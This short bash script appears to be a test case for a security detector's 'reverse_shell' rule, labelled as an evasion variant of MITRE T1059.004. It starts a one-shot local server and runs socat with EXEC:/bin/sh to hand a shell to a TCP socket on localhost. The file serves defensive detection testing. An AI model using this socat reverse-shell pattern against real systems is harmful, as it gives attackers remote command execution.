# technique: T1059.004 the shell socat starts has the socket as stdin/stdout
# rule: reverse_shell
# exe: /usr/bin/dash
# evasion-of: 58_reverse_shell_dev_tcp
. "$(dirname "$0")/common.bash"
serve_once 'exit
'
socat "TCP:127.0.0.1:$VG_PORT" EXEC:/bin/sh,nofork || true
